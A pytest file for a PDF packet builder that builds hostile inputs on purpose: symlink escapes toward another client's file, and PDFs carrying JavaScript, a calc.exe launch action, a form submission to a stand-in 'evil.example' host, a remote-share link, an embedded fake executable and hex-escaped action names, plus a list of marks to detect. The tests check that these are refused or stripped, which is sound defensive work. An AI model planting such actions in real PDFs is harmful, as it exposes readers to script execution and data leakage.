"""Hostile inputs to packets and the PDF layer, all generated here, all fast.

Each test is a probe an attacker (or an unlucky user) would try: links out of
the spec's folder, PDFs that carry actions and attachments, files that are
not files, pages and images built to exhaust memory.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pikepdf
import pytest

from docgen.cli import main
from docgen.errors import PacketError
from docgen.packets import build_packet, check_file

from .packetcheck import line_of, write_spec

PLAIN_SPEC = "kind: filing\nindex: false\ndividers: false\nstamp: {style: none}\n"


def small_pdf(text: str = "evidence", pages: int = 1) -> pikepdf.Pdf:
    """A PDF of ``pages`` letter pages, each with a line of text in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
    )
    for number in range(pages):
        page = pdf.add_blank_page(page_size=(612, 792))
        page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 12 Tf 72 700 Td ({text} {number + 1}) Tj ET".encode())
    return pdf


def write_pdf(path: Path, pdf: pikepdf.Pdf | None = None) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    (pdf or small_pdf(path.stem)).save(path)
    return path


# --- 1. links out of the allowed folders ------------------------------------------------------


@pytest.fixture
def other_client(tmp_path: Path) -> Path:
    """Another client's confidential PDF, outside the packet's folder."""
    return write_pdf(tmp_path / "clients" / "other" / "passport.pdf", small_pdf("OTHER CLIENT"))


def _packet_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "packet"
    write_pdf(folder / "evidence" / "good.pdf")
    return folder


def test_a_link_to_a_file_outside_the_spec_folder_is_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "offer.pdf").symlink_to(other_client)
    spec = write_spec(
        folder, PLAIN_SPEC + "exhibits:\n  - title: Offer\n    files: [evidence/good.pdf, evidence/offer.pdf]\n"
    )
    with pytest.raises(PacketError) as caught:
        build_packet(spec, folder / "out.pdf")
    message = str(caught.value)
    assert message.startswith(f"{spec}:{line_of(spec, 'offer.pdf')}: exhibit A 'Offer': evidence/offer.pdf: ")
    assert str(other_client) in message and "--allow-dir" in message and "\n" not in message
    assert not (folder / "out.pdf").exists()


def test_a_link_inside_an_exhibit_folder_is_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "a-statement.pdf").symlink_to(other_client)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Statements\n    folder: evidence\n")
    with pytest.raises(PacketError, match=r"exhibit A 'Statements': evidence/a-statement.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")


def test_a_linked_folder_and_a_part_pointing_outside_are_refused(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "more").symlink_to(other_client.parent, target_is_directory=True)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: More\n    files: [evidence/more/passport.pdf]\n")
    with pytest.raises(PacketError, match=r"evidence/more/passport.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")
    spec = write_spec(folder, PLAIN_SPEC + f"parts:\n  - document: {other_client}\n")
    with pytest.raises(PacketError, match=rf"^{spec}:6: part 'passport': {other_client}: .*outside"):
        build_packet(spec, folder / "out.pdf")
    spec = write_spec(folder, PLAIN_SPEC + "parts:\n  - notice: ../clients/other/passport.pdf\n")
    with pytest.raises(PacketError, match=r"\.\./clients/other/passport.pdf: .*outside"):
        build_packet(spec, folder / "out.pdf")


def test_folders_named_by_the_user_are_allowed(tmp_path: Path, other_client: Path) -> None:
    folder = _packet_folder(tmp_path)
    (folder / "evidence" / "offer.pdf").symlink_to(other_client)
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Offer\n    files: [evidence/offer.pdf]\n")
    result = build_packet(spec, folder / "out.pdf", allow_dirs=[other_client.parent])
    assert result.pages == 1
    # the CLI: refused without the option (exit 9, one line), built with it
    assert main(["packet", "build", str(spec), "-o", str(folder / "cli.pdf")]) == 9
    assert main(["packet", "build", str(spec), "-o", str(folder / "cli.pdf"), "--allow-dir", str(tmp_path)]) == 0
    assert (folder / "cli.pdf").is_file()


def test_links_that_stay_inside_the_spec_folder_are_fine(tmp_path: Path) -> None:
    folder = _packet_folder(tmp_path)
    os.symlink("good.pdf", folder / "evidence" / "same.pdf")
    spec = write_spec(folder, PLAIN_SPEC + "exhibits:\n  - title: Same\n    files: [evidence/same.pdf]\n")
    assert build_packet(spec, folder / "out.pdf").pages == 1


# --- 2. actions, scripts and attachments ------------------------------------------------------

EXECUTABLE = b"MZ\x90\x00 this program cannot be run in DOS mode (a fake executable)"


def hostile_pdf() -> pikepdf.Pdf:
    """Two pages carrying every kind of action and attachment the issue names, in every place they hang."""
    pdf = small_pdf("hostile", pages=2)
    name = pikepdf.Name

    def action(**entries: object) -> pikepdf.Object:
        return pdf.make_indirect(pikepdf.Dictionary(Type=name.Action, **entries))

    script = action(S=name.JavaScript, JS=pikepdf.String("app.alert('owned')"))
    launch = action(S=name.Launch, F=pikepdf.String("C:\\Windows\\System32\\calc.exe"))
    submit = action(S=name.SubmitForm, F=pikepdf.Dictionary(FS=name.URL, F=pikepdf.String("https://evil.example/x")))
    share = action(S=name.GoToR, F=pikepdf.String("\\\\evil-share\\docs\\x.pdf"), D=pikepdf.Array([0, name.Fit]))
    uri = action(S=name.URI, URI=pikepdf.String("https://example.org/"), Next=pikepdf.Array([script]))
    payload = pdf.make_stream(EXECUTABLE, Type=name.EmbeddedFile)
    spec = pdf.make_indirect(
        pikepdf.Dictionary(Type=name.Filespec, F=pikepdf.String("invoice.exe"), EF=pikepdf.Dictionary(F=payload))
    )
    pdf.Root.OpenAction = action(S=name.JavaScript, JS=pikepdf.String("this.print()"))
    pdf.Root.AA = pikepdf.Dictionary(WC=script)
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("init"), script])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("invoice.exe"), spec])),
    )

    def link(target: pikepdf.Object, y: int) -> pikepdf.Object:
        return pdf.make_indirect(
            pikepdf.Dictionary(Type=name.Annot, Subtype=name.Link, Rect=[72, y, 300, y + 20], A=target)
        )

    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    attachment = pdf.make_indirect(
        pikepdf.Dictionary(Type=name.Annot, Subtype=name.FileAttachment, Rect=[400, 700, 420, 720], FS=spec)
    )
    first.Annots = pikepdf.Array([link(uri, 600), link(launch, 560), link(share, 520), attachment])
    first.AA = pikepdf.Dictionary(O=script)
    button = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=name.Annot,
            Subtype=name.Widget,
            FT=name.Btn,
            Ff=1 << 16,
            T=pikepdf.String("send"),
            Rect=[72, 400, 200, 430],
            P=second,
            A=submit,
            AA=pikepdf.Dictionary(D=script),
        )
    )
    second.Annots = pikepdf.Array([button])
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
    return pdf


def _qpdf_plain(path: Path) -> bytes:
    """The file as qpdf writes it uncompressed (every object in the open, object streams undone)."""
    out = path.with_suffix(".qdf")
    subprocess.run(["qpdf", "--qdf", "--object-streams=disable", str(path), str(out)], check=False)
    return out.read_bytes()


ACTIVE_MARKS = [b"/JavaScript", b"/JS", b"/Launch", b"/SubmitForm", b"/GoToR", b"/URI", b"/OpenAction", b"/AA"]
ACTIVE_MARKS += [b"/EmbeddedFile", b"/FileAttachment", b"calc.exe", b"evil", b"MZ\x90"]


@pytest.mark.parametrize("packed", [False, True], ids=["plain", "object-streams"])
def test_every_action_and_attachment_is_stripped_from_evidence(tmp_path: Path, packed: bool) -> None:
    evidence = tmp_path / "evidence" / "hostile.pdf"
    evidence.parent.mkdir()
    mode = pikepdf.ObjectStreamMode.generate if packed else pikepdf.ObjectStreamMode.disable
    hostile_pdf().save(evidence, object_stream_mode=mode, compress_streams=packed)
    assert all(mark in _qpdf_plain(evidence) for mark in ACTIVE_MARKS)  # the probe carries them all
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Hostile\n    files: [evidence/hostile.pdf]\n")
    result = build_packet(spec, tmp_path / "out.pdf")
    assert result.pages == 2
    plain = _qpdf_plain(tmp_path / "out.pdf")
    assert [mark for mark in ACTIVE_MARKS if mark in plain] == []
    assert b"hostile 1" in plain and b"hostile 2" in plain  # the pages themselves are kept
    report = check_file(tmp_path / "out.pdf", "uscis-online")
    assert report.ok, report.lines()


def test_packet_check_finds_every_action_and_attachment(tmp_path: Path) -> None:
    path = tmp_path / "hostile.pdf"
    hostile_pdf().save(path, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    report = check_file(path, "uscis-online")
    lines = "\n".join(report.lines())
    assert not report.ok and "passes" not in lines
    found = {f.check: f for f in report.findings}
    assert found["javascript"].status == "error"
    for place in ("document scripts", "document open action", "page 1", "page 2"):
        assert place in found["javascript"].detail, found["javascript"].detail
    assert found["actions"].status == "error"
    for kind in ("Launch", "SubmitForm", "GoToR", "URI"):
        assert kind in found["actions"].detail, found["actions"].detail
    assert found["embedded files"].status == "error" and "page 1 FileAttachment" in found["embedded files"].detail
    assert main(["packet", "check", str(path)]) == 9


def test_a_script_behind_a_link_is_found_through_the_next_chain(tmp_path: Path) -> None:
    """Only a URI link, whose /Next runs JavaScript: nothing else in the file."""
    pdf = small_pdf("link")
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('x')"))
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/"), Next=script)
    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri)
    pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(link)]))
    pdf.save(tmp_path / "link.pdf")
    found = {f.check: f for f in check_file(tmp_path / "link.pdf", "uscis-online").findings}
    assert found["javascript"].detail == "page 1" and found["actions"].detail.startswith("URI")


def _raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF file written by hand (object 1 is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def test_names_written_with_hex_escapes_do_not_slip_past(tmp_path: Path) -> None:
    """``/O#70enAction`` is /OpenAction and ``/#41A`` is /AA to every reader; the quick byte scan must not miss them."""
    contents = b"BT /F1 12 Tf 72 700 Td (escaped) Tj ET"
    data = _raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /O#70enAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R /#41A << /O 4 0 R >> >>",
            b"<< /S /#4Aava#53cript /J#53 (app.alert(1)) >>",
            b"<< /Length %d >>\nstream\n" % len(contents) + contents + b"\nendstream",
        ]
    )
    (tmp_path / "evidence").mkdir()
    (tmp_path / "evidence" / "escaped.pdf").write_bytes(data)
    spec = write_spec(tmp_path, PLAIN_SPEC + "exhibits:\n  - title: Escaped\n    files: [evidence/escaped.pdf]\n")
    build_packet(spec, tmp_path / "out.pdf")
    plain = _qpdf_plain(tmp_path / "out.pdf")
    assert b"JavaScript" not in plain and b"/AA" not in plain and b"app.alert" not in plain
